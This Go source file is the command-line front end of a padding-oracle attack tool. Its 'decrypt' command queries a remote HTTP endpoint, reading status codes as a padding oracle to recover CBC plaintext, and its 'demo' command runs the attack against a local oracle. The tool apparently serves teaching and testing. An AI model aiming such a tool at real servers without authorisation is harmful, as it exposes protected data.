package main

import (
	"encoding/hex"
	"fmt"
	"io"
	"log/slog"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/mario-areias/padding-oracle/attack"
	"github.com/mario-areias/padding-oracle/key"
	"github.com/mario-areias/padding-oracle/oracle"
)

type options struct {
	blockSize   int
	concurrency int
	timeout     time.Duration
	retries     int
	candidates  string
	verbose     bool
}

func (o *options) bind(cmd *cobra.Command) {
	f := cmd.Flags()
	f.IntVar(&o.blockSize, "block-size", attack.DefaultBlockSize, "cipher block size in bytes")
	f.IntVar(&o.concurrency, "concurrency", 4, "blocks decoded at once")
	f.DurationVar(&o.timeout, "timeout", 10*time.Second, "timeout of a single oracle query, 0 for none")
	f.IntVar(&o.retries, "retries", attack.DefaultMaxRetries, "retries of a failed oracle query, negative for none")
	f.StringVar(&o.candidates, "candidates", "", "character guesses, most likely first (default: English text, then every byte)")
	f.BoolVarP(&o.verbose, "verbose", "v", false, "log every block and retry")
}

func (o *options) config(w io.Writer) attack.Config {
	level := slog.LevelInfo
	if o.verbose {
		level = slog.LevelDebug
	}

	cfg := attack.Config{
		BlockSize:    o.blockSize,
		Concurrency:  o.concurrency,
		ProbeTimeout: o.timeout,
		MaxRetries:   o.retries,
		Logger:       slog.New(slog.NewTextHandler(w, &slog.HandlerOptions{Level: level})),
	}
	if o.candidates != "" {
		cfg.CandidateOrder = []byte(o.candidates)
	}
	return cfg
}

func newRootCmd() *cobra.Command {
	root := &cobra.Command{
		Use:          "paddingoracle",
		Short:        "Decrypt CBC ciphertexts through a padding oracle",
		SilenceUsage: true,
	}
	root.AddCommand(newDecryptCmd(), newDemoCmd())
	return root
}

func newDecryptCmd() *cobra.Command {
	var (
		opts     options
		target   string
		param    string
		encoding string
		valid    []int
		invalid  []int
	)

	cmd := &cobra.Command{
		Use:   "decrypt <hex ciphertext>",
		Short: "Decrypt a ciphertext against a remote HTTP oracle",
		Args:  cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			c, err := hex.DecodeString(strings.TrimSpace(args[0]))
			if err != nil {
				return fmt.Errorf("ciphertext is not hex: %w", err)
			}

			o := oracle.NewHTTP(target)
			o.Param = param
			o.Encoding = oracle.Encoding(encoding)
			o.ValidStatus = valid
			o.InvalidStatus = invalid
			if err := o.Validate(); err != nil {
				return err
			}

			a, err := attack.New(o, opts.config(cmd.ErrOrStderr()))
			if err != nil {
				return err
			}

			res, err := a.Decrypt(cmd.Context(), c)
			if err != nil {
				if res != nil {
					printPartial(cmd.OutOrStdout(), res)
				}
				return err
			}

			fmt.Fprintln(cmd.OutOrStdout(), string(res.Plaintext))
			return nil
		},
	}

	opts.bind(cmd)
	f := cmd.Flags()
	f.StringVar(&target, "url", "", "oracle endpoint")
	f.StringVar(&param, "param", "er", "query parameter carrying the ciphertext")
	f.StringVar(&encoding, "encoding", string(oracle.Hex), "ciphertext encoding: hex or base64")
	f.IntSliceVar(&valid, "valid-status", []int{200, 404}, "status codes meaning valid padding")
	f.IntSliceVar(&invalid, "invalid-status", []int{403}, "status codes meaning invalid padding")
	_ = cmd.MarkFlagRequired("url")

	return cmd
}

func newDemoCmd() *cobra.Command {
	var opts options

	cmd := &cobra.Command{
		Use:   "demo [plaintext]",
		Short: "Encrypt a message under a random key and recover it through a local oracle",
		Args:  cobra.MaximumNArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			plaintext := "Let's test if this attack works!!"
			if len(args) == 1 {
				plaintext = args[0]
			}

			k, err := key.Random(16)
			if err != nil {
				return err
			}
			o, err := oracle.NewLocal(k)
			if err != nil {
				return err
			}
			c, err := o.Encrypt([]byte(plaintext))
			if err != nil {
				return err
			}

			out := cmd.OutOrStdout()
			fmt.Fprintf(out, "ciphertext: %x\n", c)

			a, err := attack.New(o, opts.config(cmd.ErrOrStderr()))
			if err != nil {
				return err
			}
			res, err := a.Decrypt(cmd.Context(), c)
			if err != nil {
				return err
			}

			fmt.Fprintf(out, "plaintext:  %s\n", res.Plaintext)
			fmt.Fprintf(out, "probes:     %d\n", o.Probes())
			return nil
		},
	}

	opts.bind(cmd)
	return cmd
}

func printPartial(w io.Writer, res *attack.Result) {
	for k, b := range res.Blocks {
		if b == nil {
			fmt.Fprintf(w, "block %d: failed\n", k+1)
			continue
		}
		fmt.Fprintf(w, "block %d: %q\n", k+1, b.Plaintext())
	}
}
